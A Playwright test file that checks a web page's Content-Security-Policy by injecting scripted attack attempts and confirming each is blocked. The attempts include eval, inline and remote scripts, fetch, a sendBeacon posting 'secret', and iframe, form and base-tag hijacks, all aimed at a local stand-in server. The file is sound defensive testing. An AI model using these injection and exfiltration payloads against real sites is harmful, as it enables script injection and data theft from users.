// The page tries to break its own Content-Security-Policy, and works as before.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "playwright/test";

let elsewhere: Server;
let reached: string[] = [];

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("globalThis.stranger = true;");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
});

test.afterAll(() => elsewhere.close());

/** The directives that were offended against since the page opened. */
const offences = (page: Page) => page.evaluate(() => (globalThis as unknown as { told: string[] }).told);

async function open(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const told: string[] = ((globalThis as unknown as { told: string[] }).told = []);
    document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
  });
  await page.goto("/#v=1&steps=30&trainPerClass=100&testPerClass=40");
  await expect(page.getByText("flipped", { exact: true })).toBeVisible();
}

test("nothing that a stranger's script could want is let through", async ({ page }) => {
  await open(page);
  reached = [];
  const { port } = elsewhere.address() as AddressInfo;
  const attempts: Record<string, string> = {
    eval: "try { eval('globalThis.evil = 1') } catch {}",
    inline:
      "document.head.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.evil = 1' }))",
    script: `document.head.append(Object.assign(document.createElement('script'), { src: 'http://127.0.0.1:PORT/a.js' }))`,
    fetch: "fetch('http://127.0.0.1:PORT/b').catch(() => {})",
    beacon: "navigator.sendBeacon('http://127.0.0.1:PORT/c', 'secret')",
    picture: "new Image().src = 'http://127.0.0.1:PORT/d.png'",
    frame:
      "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:PORT/e' }))",
    style:
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://127.0.0.1:PORT/f.css' }))",
    worker: "try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}",
    form: "{ const form = Object.assign(document.createElement('form'), { action: 'http://127.0.0.1:PORT/g' }); document.body.append(form); form.submit(); }",
    base: "document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:PORT/' }))",
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    const before = (await offences(page)).length;
    // Later, and so by the page itself: what Playwright evaluates stands above the policy.
    await page.evaluate(`void setTimeout(() => { ${attempt.replaceAll("PORT", String(port))} })`);
    await expect.poll(async () => (await offences(page)).length, { message: name }).toBeGreaterThan(before);
  }
  expect(await page.evaluate(() => "evil" in globalThis || "stranger" in globalThis)).toBe(false);
  expect(reached).toEqual([]);
});

test("nothing that the page does is against it", async ({ page }) => {
  await open(page);
  await page.getByRole("button", { name: "Train", exact: true }).click();
  await expect(page.getByText(/^On all [\d,]+ held-out pictures$/)).toBeVisible({ timeout: 60_000 });
  await page
    .getByRole("button", { name: /^Share/ })
    .first()
    .click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  expect(await offences(page)).toEqual([]);
});
